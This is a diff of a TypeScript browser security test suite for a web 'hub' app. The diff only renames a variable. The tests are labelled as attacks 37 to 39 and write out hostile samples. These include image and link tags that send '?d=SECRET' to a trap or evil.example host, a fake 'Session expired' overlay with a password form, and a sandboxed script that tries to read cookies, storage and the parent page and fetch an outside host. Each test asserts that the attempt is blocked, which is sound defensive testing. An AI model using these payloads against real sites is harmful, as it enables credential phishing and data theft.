@@ -7,7 +7,7 @@ import { stage } from "./harness/stage.js";
 import { setTrap, type Trap } from "./harness/trap.js";
 import { say, shownBounds, waitForRow, windowOf } from "./harness/verbs.js";
 
-const desk = stage();
+const desktop = stage();
 let trap: Trap;
 
 beforeEach(async () => {
@@ -18,14 +18,14 @@ afterEach(() => trap.close());
 
 /** The requests to the hub itself: without the pages of the apps, and without the parts of the page that come later. */
 function hubRequests(): readonly string[] {
-  return desk.guard.requests.filter((r) => r.startsWith(desk.hub.url) && !r.startsWith(`${desk.hub.url}/assets/`));
+  return desktop.guard.requests.filter((r) => r.startsWith(desktop.hub.url) && !r.startsWith(`${desktop.hub.url}/assets/`));
 }
 
 it("attack 37: pictures and links in a text load nothing from elsewhere", async () => {
   // Parsing what is then thrown away makes the browser complain about it.
-  desk.guard.expect(/Content Security Policy|policy: (style|script|base|img)/);
-  const session = await desk.hub.rest.newSession("37");
-  const page = await desk.tab({ session });
+  desktop.guard.expect(/Content Security Policy|policy: (style|script|base|img)/);
+  const session = await desktop.hub.rest.newSession("37");
+  const page = await desktop.tab({ session });
   const to = `${trap.url}/?d=SECRET`;
   const text = [
     `![x](${to}) ![y](//127.0.0.1:${trap.port}/y "t") <img src="${to}" srcset="${to} 2x">`,
@@ -39,7 +39,7 @@ it("attack 37: pictures and links in a text load nothing from elsewhere", async 
     "",
     "the end",
   ].join("\n");
-  await show(desk.hub, session, page, "text", { renderer: "markdown", data: text });
+  await show(desktop.hub, session, page, "text", { renderer: "markdown", data: text });
   await windowOf(page, "text").getByText("the end").waitFor();
   await windowOf(page, "text").getByRole("link", { name: "a link" }).click();
   await page.getByText("https://evil.example/?d=SECRET").last().waitFor();
@@ -47,21 +47,21 @@ it("attack 37: pictures and links in a text load nothing from elsewhere", async 
   await page.keyboard.press("Escape");
   await say(page, `/say ${text.replaceAll("\n", "\\n")}`);
   await waitForRow(page, "the end");
-  await show(desk.hub, session, page, "layout", { renderer: "component", data: { components: [{ type: "image", src: to }, { type: "text", content: "an image" }] } } as Content);
+  await show(desktop.hub, session, page, "layout", { renderer: "component", data: { components: [{ type: "image", src: to }, { type: "text", content: "an image" }] } } as Content);
   await windowOf(page, "layout").getByText("an image").waitFor();
-  await desk.hub.rest.act(session, [{ type: "notification.show", id: "n", title: `![x](${to})`, body: `<img src="${to}">`, icon: to }]);
-  await settle(desk.hub, session, page);
+  await desktop.hub.rest.act(session, [{ type: "notification.show", id: "n", title: `![x](${to})`, body: `<img src="${to}">`, icon: to }]);
+  await settle(desktop.hub, session, page);
   expect(trap.caught).toEqual([]);
 
   expect(await page.locator("[data-row] img[src^=http], section img[src^=http]").count()).toBe(0);
 });
 
 it("attack 38: a form or an overlay in a text is taken out, and cannot leave its window in html", async () => {
-  const session = await desk.hub.rest.newSession("38");
-  const page = await desk.tab({ session });
+  const session = await desktop.hub.rest.newSession("38");
+  const page = await desktop.tab({ session });
   const overlay = '<div id="root" class="app" style="position:fixed;inset:0;z-index:2147483647;background:red">Session expired</div>';
   const form = `<form action="${trap.url}"><input name=password type=password><button formaction="${trap.url}">Sign in</button></form>`;
-  await show(desk.hub, session, page, "text", { renderer: "markdown", data: `${overlay}${form}<dialog open>fake</dialog><style>*{display:none}</style>\n\nthe end` });
+  await show(desktop.hub, session, page, "text", { renderer: "markdown", data: `${overlay}${form}<dialog open>fake</dialog><style>*{display:none}</style>\n\nthe end` });
   await windowOf(page, "text").getByText("the end").waitFor();
   const inText = windowOf(page, "text");
   expect(await inText.locator("form, input, style, dialog, [id=root], .app").count()).toBe(0);
@@ -74,10 +74,10 @@ it("attack 38: a form or an overlay in a text is taken out, and cannot leave its
   });
   expect(strays).toBe(0);
 
-  desk.guard.expect(/Content Security Policy|policy: |sandboxed/);
-  await desk.hub.rest.act(session, [{ type: "window.close", windowId: "text" }]);
-  await show(desk.hub, session, page, "html", { renderer: "html", data: `${overlay}${form}<script>document.forms[0].submit();document.documentElement.dataset.done="yes"</script>` });
-  await doneFrame(desk.hub, page);
+  desktop.guard.expect(/Content Security Policy|policy: |sandboxed/);
+  await desktop.hub.rest.act(session, [{ type: "window.close", windowId: "text" }]);
+  await show(desktop.hub, session, page, "html", { renderer: "html", data: `${overlay}${form}<script>document.forms[0].submit();document.documentElement.dataset.done="yes"</script>` });
+  await doneFrame(desktop.hub, page);
   const within = await shownBounds(page, "html");
   const outside = await page.evaluate(() => {
     const at = (x: number, y: number): boolean => document.elementFromPoint(x, y)?.tagName === "IFRAME";
@@ -95,13 +95,13 @@ it("attack 38: a form or an overlay in a text is taken out, and cannot leave its
 });
 
 it("attack 39: an app reaches neither the page, nor the hub, nor anybody else", async () => {
-  desk.guard.expect(/Content Security Policy|policy: |sandboxed|SecurityError|Unsafe attempt|Blocked|ERR_BLOCKED|net::ERR_FAILED|WebSocket connection|Refused/);
-  const session = await desk.hub.rest.newSession("39");
-  const page = await desk.tab({ session });
-  await settle(desk.hub, session, page);
+  desktop.guard.expect(/Content Security Policy|policy: |sandboxed|SecurityError|Unsafe attempt|Blocked|ERR_BLOCKED|net::ERR_FAILED|WebSocket connection|Refused/);
+  const session = await desktop.hub.rest.newSession("39");
+  const page = await desktop.tab({ session });
+  await settle(desktop.hub, session, page);
   const before = hubRequests().length;
   const script = `
-    const hub = ${JSON.stringify(desk.hub.url)}, evil = ${JSON.stringify(trap.url)}, out = {};
+    const hub = ${JSON.stringify(desktop.hub.url)}, evil = ${JSON.stringify(trap.url)}, out = {};
     const attempt = async (name, act) => { try { out[name] = String(await act()) } catch (e) { out[name] = "blocked" } };
     (async () => {
       await attempt("parent", () => parent.document.title);
@@ -128,8 +128,8 @@ it("attack 39: an app reaches neither the page, nor the hub, nor anybody else", 
       document.documentElement.dataset.out = JSON.stringify(out);
       document.documentElement.dataset.done = "yes";
     })();`;
-  await show(desk.hub, session, page, "app", { renderer: "html", data: `<body>app<script>${script}</script>` });
-  const frame = await doneFrame(desk.hub, page);
+  await show(desktop.hub, session, page, "app", { renderer: "html", data: `<body>app<script>${script}</script>` });
+  const frame = await doneFrame(desktop.hub, page);
   const out = JSON.parse((await frame.evaluate(() => document.documentElement.dataset.out)) ?? "{}") as Record<string, string>;
   const shut = ["topDocument", "cookie", "storage", "database", "open", "fetchHub", "fetchEvil", "socket", "events", "picture", "script"];
   expect(Object.fromEntries(shut.map((name) => [name, out[name]]))).toEqual(Object.fromEntries(shut.map((name) => [name, "blocked"])));
@@ -137,9 +137,9 @@ it("attack 39: an app reaches neither the page, nor the hub, nor anybody else", 
 
   // An app that leaves its own frame takes nothing with it.
   await frame.evaluate((evil) => void (location.href = `${evil}/leave?d=SECRET`), trap.url).catch(() => undefined);
-  await settle(desk.hub, session, page);
+  await settle(desktop.hub, session, page);
   expect(trap.caught).toEqual([]);
-  expect(page.url()).toContain(desk.hub.url);
+  expect(page.url()).toContain(desktop.hub.url);
   expect(page.context().pages()).toHaveLength(1);
   expect(hubRequests().slice(before)).toEqual([]);
 });
